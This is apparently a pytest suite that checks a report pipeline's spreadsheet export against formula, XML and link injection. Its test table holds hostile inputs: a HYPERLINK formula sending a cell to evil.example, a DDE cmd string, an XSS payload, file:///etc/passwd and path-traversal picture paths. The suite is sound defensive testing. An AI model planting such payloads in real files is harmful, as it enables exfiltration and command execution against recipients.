"""Attribute text that would be a formula, a link or broken XML in the spreadsheet."""

from __future__ import annotations

import io
import zipfile
from dataclasses import replace
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest

from pipeline.publish.report import ReportInput
from pipeline.publish.spreadsheet import book, cells
from tests import made_month

TEXTS = {
    '=HYPERLINK("http://evil.example/?"&A1,"click")': '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A1": "'=cmd|' /C calc'!A1",
    "+1+1": "'+1+1",
    "-2+3": "'-2+3",
    "@SUM(A1)": "'@SUM(A1)",
    "\t=1+1": "'=1+1",
    "\r=1+1": "'=1+1",
    " \u202e=1+1": "'=1+1",
    "\ufeff=1+1": "'=1+1",
    "＝1＋1": "'＝1＋1",
    "<img src=x onerror=alert(1)>": "<img src=x onerror=alert(1)>",
    "<r><t>x</t></r>": "'<r><t>x</t></r>",
    "<r></si></sst><evil></r>": "'<r></si></sst><evil></r>",
    "http://evil.example/": "http://evil.example/",
    "internal:Sheet1!A1": "internal:Sheet1!A1",
    "file:///etc/passwd": "file:///etc/passwd",
    "{=1+1}": "{=1+1}",
    "矿" * 200: "矿" * 200,
    "\u200f\u202eabc": "abc",
    "a\x00\x0b\x1f\x7f\ufffe\uffffb": "ab",
    "half \ud83d of one": "half \ufffd of one",
    "two\r\nlines": "two\nlines",
    "]]> & \" ' < >": "]]> & \" ' < >",
    "𠮷野家": "𠮷野家",
}


@pytest.fixture(scope="module")
def given(tmp_path_factory: pytest.TempPathFactory) -> ReportInput:
    root = tmp_path_factory.mktemp("hostile")
    return made_month.publish(root / "2024-07", made_month.two_months(root), made_month.run_facts())


def poisoned(given: ReportInput, text: str) -> ReportInput:
    """The text wherever text from outside may stand."""
    first = given.flagged[0]
    names = "id right_id right_name holder mineral legacy_id legacy_state restriction town cause review_reason review_note reviewer reviewed_at"
    case = replace(first, properties=first.properties | dict.fromkeys([*names.split(), "evidence", "status", "review", "patch_id"], text))
    rights = tuple(replace(right, id=text, name=text, holder=text, mineral=text, method=text, status=text) for right in given.layers.rights)
    zones = tuple(replace(zone, id=text, name=text, type=text) for zone in given.layers.zones)
    layers = replace(given.layers, rights=rights, zones=zones, legacy=tuple(replace(each, id=text, state=text) for each in given.layers.legacy))
    run = replace(given.run, warnings=[text], version=text)
    return replace(given, flagged=[case], layers=replace(layers, off=(text,)), run=run, county=text, code=text)


@pytest.mark.parametrize("text", TEXTS)
def test_text_stays_text(given: ReportInput, text: str) -> None:
    data = book.render(poisoned(given, text))
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        for name in parts.namelist():
            tree = ElementTree.fromstring(parts.read(name))
            assert not [tag for tag in tree.iter() if tag.tag.endswith(("}f", "}evil", "}hyperlink"))], name
            assert not [tag for tag in tree.iter() if tag.get("TargetMode") == "External"], name
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    assert not [cell for sheet in workbook for line in sheet.iter_rows() for cell in line if cell.data_type == "f"]
    head, row = workbook["线索"].iter_rows(values_only=True)
    assert dict(zip(head, row, strict=True))["采矿权人"] == TEXTS[text]


def test_what_is_too_long_is_cut_and_says_so(given: ReportInput) -> None:
    for text in ("x" * 40_000, "𠮷" * 40_000):
        data = book.render(poisoned(given, text))
        head, row = openpyxl.load_workbook(io.BytesIO(data))["线索"].iter_rows(values_only=True)
        held = str(dict(zip(head, row, strict=True))["采矿权人"])
        assert len(held.encode("utf-16-le")) // 2 <= cells.LONGEST
        assert held.startswith(text[:1000])
        assert held.endswith(cells.CUT)


@pytest.mark.parametrize("path", ["evidence/../../secret.png", "http://evil.example/a.png", "evidence/a.png\nx", "/etc/a.png", "evidence/a.exe"])
def test_only_our_own_pictures_are_linked(path: str) -> None:
    assert cells.picture(path) is None


def test_numbers_that_no_spreadsheet_has_are_left_out(given: ReportInput) -> None:
    first = given.flagged[0]
    case = replace(first, properties=first.properties | {"area_m2": float("nan"), "growth_m2": float("inf")})
    rights = tuple(replace(right, scale=float("nan")) for right in given.layers.rights)
    data = book.render(replace(given, flagged=[case], layers=replace(given.layers, rights=rights)))
    head, row = openpyxl.load_workbook(io.BytesIO(data))["线索"].iter_rows(values_only=True)
    assert dict(zip(head, row, strict=True))["监测面积（m²）"] is None


def test_nothing_of_a_month_s_folder_is_half_written(given: ReportInput, tmp_path: Path) -> None:
    book.write(tmp_path / book.NAME, given)
    assert [each.name for each in tmp_path.iterdir()] == [book.NAME]
